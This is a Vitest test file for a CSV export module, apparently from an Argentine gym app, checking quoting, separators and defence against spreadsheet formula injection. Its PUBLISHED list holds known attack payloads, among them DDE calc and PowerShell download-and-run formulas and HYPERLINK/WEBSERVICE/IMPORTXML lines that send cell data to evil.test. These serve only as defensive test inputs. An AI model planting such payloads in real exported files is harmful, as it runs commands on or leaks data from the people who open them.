import { describe, expect, test } from 'vitest';
import { listCell, moneyColumn, percentColumn, textColumn } from './columns.ts';
import { csvOf } from './csv.ts';

const columns = [textColumn('Nombre', 'name'), moneyColumn('Total', 'totalPrice')];
const csv = (...rows: Record<string, unknown>[]) =>
  csvOf(
    columns,
    rows.map((row, index) => ({ id: String(index), ...row })),
    {},
  );
const lines = (...rows: Record<string, unknown>[]) => csv(...rows).split('\r\n');

describe('a list exported as CSV', () => {
  test('opens in a spreadsheet set to es-AR: marked as UTF-8, separated by semicolons, every text quoted', () => {
    expect(lines({ name: 'Núñez', totalPrice: 12_500 })).toEqual(['\uFEFF"Nombre";"Total"', '"Núñez";12500', '']);
  });

  test('keeps semicolons, quotes and line breaks inside a cell', () => {
    expect(lines({ name: 'a;"b"\nc', totalPrice: 0 })[1]).toBe('"a;""b""\nc";0');
  });

  test('has numbers as numbers, negative ones too: amounts, percentages and counts', () => {
    const numbers = [
      moneyColumn('Total', 'total'),
      percentColumn('Descuento', 'percent'),
      textColumn('Stock', 'stock'),
    ];
    const row = { id: '1', total: -12_500, percent: 10, stock: -3 };
    expect(csvOf(numbers, [row], {}).split('\r\n')[1]).toBe('-12500;10;-3');
  });

  test('leaves ordinary texts as they are', () => {
    for (const name of [
      'Ana-María',
      'a + b = c',
      'https://gympower.com.ar/?a=1',
      'Lunes 7:00, Martes 8:00',
      'a\r\n\r\nb',
    ])
      expect(csv({ name, totalPrice: 0 })).toContain(`"${name}";0`);
  });
});

/** From OWASP's page on CSV injection, PayloadsAllTheThings ('CSV Injection') and Veracode's list of bypasses. */
const PUBLISHED = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'a\n=1',
  'a\r\n=1',
  'a\r=1',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a|=1+1',
  'a",=1+1,"',
  'a";=1+1;"',
  " =cmd|'/C calc'!A0",
  "\u200B=cmd|'/C calc'!A0",
  "\uFEFF=cmd|'/C calc'!A0",
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '−1+1',
  'a\n＝1+1',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  "+thespanishinquisition(cmd|'/c calc.exe'!A",
  "         =         C    m D                    |        '/        c       c  al  c      .  e       x  e  '   !   A",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  'DDE ("cmd";"/C calc";"!A0")A0\n@SUM(1+1)*cmd|\' /C calc\'!A0',
  "=2+5+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"Ver")',
  '=IMPORTXML(CONCAT("http://evil.test/?v=", CONCATENATE(A2:E2)), "//a/a10")',
  '=IMPORTFEED(CONCAT("http://evil.test/", A2))',
  '=WEBSERVICE("http://evil.test/"&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  "%0A-3+3+cmd|' /C calc'!D2\n-3+3",
];

const SEPARATORS = /[;,|\t\n\r"]/u;
const TRIGGER = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠−]/u;

describe('a cell is no formula to a spreadsheet', () => {
  test.each(PUBLISHED)('that reads the file as we write it: %j', (payload) => {
    const [, quoted] = /^"((?:[^"]|"")*)";0\r\n$/u.exec(
      csv({ name: payload, totalPrice: 0 }).split('\r\n').slice(1).join('\r\n'),
    )!;
    expect(quoted!.replaceAll('""', '"')).not.toMatch(TRIGGER);
    expect(quoted).not.toMatch(/^[\t\r]/);
  });

  test.each(PUBLISHED)('that separates or quotes cells in any other way: %j', (payload) => {
    const [, ...rows] = csv({ name: payload, totalPrice: 0 }).split('\uFEFF"Nombre";"Total"');
    for (const part of rows.join('').split(SEPARATORS)) expect(part).not.toMatch(TRIGGER);
  });

  test('in a list of several texts', () => {
    const list = [{ label: 'Clases', cell: () => listCell(['Yoga', '=1+1']) }];
    expect(csvOf(list, [{ id: '1' }], {})).toContain(`"Yoga, '=1+1"`);
  });

  test('where the text is as long as texts may be, in no time', () => {
    const before = performance.now();
    csv({ name: '\n'.repeat(100_000), totalPrice: 0 });
    expect(performance.now() - before).toBeLessThan(1_000);
  });
});
